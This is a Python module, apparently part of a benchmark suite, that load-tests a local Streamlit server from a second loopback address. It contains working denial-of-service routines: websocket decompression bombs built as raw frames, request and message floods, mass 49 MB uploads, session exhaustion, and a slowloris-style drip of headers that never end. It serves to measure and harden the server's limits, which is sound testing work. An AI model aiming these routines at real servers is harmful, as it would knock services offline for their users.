"""What one client can do to a server: limited, from another address of this machine."""

import asyncio
import socket
import struct
import time
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from http.client import HTTPConnection, HTTPException

from streamlit.proto.BackMsg_pb2 import BackMsg
from websockets.exceptions import InvalidHandshake, WebSocketException
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Origin, Subprotocol

from bench.viewer import Viewer

ATTACKER = "127.0.0.2"
_PATIENCE_S = 60
_MB = 2**20

Attack = Callable[[int], str]
"""Attacks a port, and says what came of it."""


def open_sessions(number: int) -> Attack:
    """Open as many sessions as there are places, and move in each."""

    async def visit(port: int, started: float) -> bool:
        # Each browser comes a little after the one before.
        await asyncio.sleep(started)
        try:
            async with Viewer(port, ATTACKER) as viewer:
                for _ in range(5):
                    await asyncio.sleep(2)
                    await viewer.move()
            return True
        except (InvalidHandshake, WebSocketException, OSError):
            return False

    async def visit_all(port: int) -> int:
        visits = [visit(port, place * 0.02) for place in range(number)]
        return sum(await asyncio.gather(*visits))

    def attack(port: int) -> str:
        return f"{asyncio.run(visit_all(port))} of {number} let in"

    return attack


def send_bombs(port: int) -> str:
    """Send eight messages of 185 kB that decompress to 190 MB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -12)
    zeros = bytes(_MB)
    content = b"".join(compressor.compress(zeros) for _ in range(190))
    content += compressor.flush(zlib.Z_SYNC_FLUSH)[:-4]
    # A final binary frame, compressed, masked with zeros.
    frame = struct.pack("!BBQI", 0xC2, 0x80 | 127, len(content), 0) + content
    closed = 0
    with ExitStack() as stack:
        sockets = [stack.enter_context(_open_socket(port)) for _ in range(8)]
        for one in sockets:
            one.socket.sendall(frame)
        for one in sockets:
            with suppress(TimeoutError):
                try:
                    one.recv(timeout=_PATIENCE_S)
                except WebSocketException:
                    closed += 1
    return f"{closed} of 8 closed"


def flood(sockets: int, seconds: float = 25) -> Attack:
    """Ask for a page again and again, as fast as sockets can."""

    def send(port: int) -> tuple[int, bool]:
        sent, end, asked = 0, time.monotonic() + seconds, BackMsg()
        try:
            with _open_socket(port) as one:
                while time.monotonic() < end:
                    asked.rerun_script.query_string = f"q={sent}"
                    one.send(asked.SerializeToString())
                    sent += 1
        except (InvalidHandshake, WebSocketException, OSError):
            return sent, True
        return sent, False

    def attack(port: int) -> str:
        with ThreadPoolExecutor(sockets) as pool:
            ended = list(pool.map(send, [port] * sockets))
        closed = sum(is_closed for _, is_closed in ended)
        return f"{sum(sent for sent, _ in ended):,} sent, {closed} of {sockets} closed"

    return attack


def upload(port: int) -> str:
    """Upload twelve files of 49 MB."""
    content = bytes(49 * _MB)
    statuses = []
    for number in range(12):
        client = _client(port)
        with suppress(OSError, HTTPException):
            client.request("PUT", f"/_stcore/upload_file/a/{number}", content)
        with suppress(OSError, HTTPException):
            statuses.append(client.getresponse().status)
        client.close()
    return f"{sum(status < 400 for status in statuses)} of 12 accepted"


def ask_pictures(port: int) -> str:
    """Ask for seventy different pictures at once, three times."""
    paths = [f"/api/card.png?view={number / 10},50,6" for number in range(210)]
    return _ask(port, paths, at_once=70)


def ask_pages(port: int) -> str:
    """Ask for twenty pages of ten thousand events at once."""
    return _ask(port, ["/api/collections/events/items?limit=10000"] * 20, at_once=20)


def ask_files(port: int) -> str:
    """Ask for twenty files of all events at once."""
    return _ask(port, ["/api/export/xlsx"] * 20, at_once=20)


def drip(port: int) -> str:
    """Hold fifty connections with a header that never ends."""
    connections = [
        socket.create_connection(("127.0.0.1", port), _PATIENCE_S, (ATTACKER, 0)) for _ in range(50)
    ]
    left = dict.fromkeys(connections)
    end = time.monotonic() + 20
    for one in connections:
        one.sendall(b"GET / HTTP/1.1\r\n")
    while left and time.monotonic() < end:
        time.sleep(1)
        for one in list(left):
            try:
                one.sendall(b"x: y\r\n")
            except OSError:
                del left[one]
    for one in connections:
        one.close()
    return f"{len(left)} of 50 open after 20 s"


def come_from_elsewhere(port: int) -> str:
    """Open fifty websockets as the page of another site would."""
    refused = 0
    for _ in range(50):
        try:
            with _open_socket(port, "https://news.example"):
                pass
        except InvalidHandshake:
            refused += 1
    return f"{refused} of 50 refused"


def _open_socket(port: int, origin: str | None = None) -> ClientConnection:
    return connect(
        f"ws://127.0.0.1:{port}/_stcore/stream",
        origin=None if origin is None else Origin(origin),
        subprotocols=[Subprotocol("streamlit")],
        open_timeout=_PATIENCE_S,
        source_address=(ATTACKER, 0),
        max_queue=None,
    )


def _client(port: int) -> HTTPConnection:
    return HTTPConnection("127.0.0.1", port, timeout=_PATIENCE_S * 3, source_address=(ATTACKER, 0))


def _ask(port: int, paths: list[str], at_once: int) -> str:
    """Ask for all paths, so many at once; return how many were answered how."""

    def ask(path: str) -> int:
        client = _client(port)
        try:
            client.request("GET", path)
            response = client.getresponse()
            response.read()
            return response.status
        except (OSError, HTTPException):
            return 0
        finally:
            client.close()

    with ThreadPoolExecutor(at_once) as pool:
        statuses = list(pool.map(ask, paths))
    counts = [f"{statuses.count(status)} x {status}" for status in sorted(set(statuses))]
    return ", ".join(counts)
